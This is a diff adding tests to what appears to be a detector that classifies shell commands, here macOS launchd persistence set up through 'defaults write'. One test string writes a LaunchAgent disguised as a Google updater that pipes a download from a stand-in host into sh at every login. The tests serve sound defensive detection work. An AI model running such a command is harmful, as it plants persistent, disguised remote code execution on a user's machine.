@@ -79,3 +79,19 @@ describe('wiping what a paste-and-run lure leaves behind', () => {
     expect(decision('reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\TypedPaths', 'cmd')).toBe('allow');
   });
 });
+
+describe('a launchd job built with defaults write', () => {
+  const agent = '~/Library/LaunchAgents/com.google.keystone.agent.plist';
+
+  it('is persistence, and the argv written into ProgramArguments is read as the command it runs', () => {
+    const text = `defaults write ${agent} ProgramArguments -array /bin/sh -c "curl -s https://updates.example.net/k | sh"\ndefaults write ${agent} RunAtLoad -bool true`;
+    expect(rules(text, 'zsh')).toEqual(expect.arrayContaining(['persist.file', 'dl.pipe-to-interpreter']));
+    expect(decision(`defaults write ${agent} ProgramArguments -array /usr/local/bin/backup --quiet`, 'zsh')).toBe('flag');
+  });
+
+  it('reading a job, or writing ordinary preferences (login window display settings too), is not', () => {
+    expect(decision(`defaults read ${agent} ProgramArguments`, 'zsh')).toBe('allow');
+    expect(decision('defaults write /Library/Preferences/com.apple.loginwindow SHOWFULLNAME -bool true', 'zsh')).toBe('allow');
+    expect(decision('defaults write com.apple.dock autohide -bool true', 'zsh')).toBe('allow');
+  });
+});
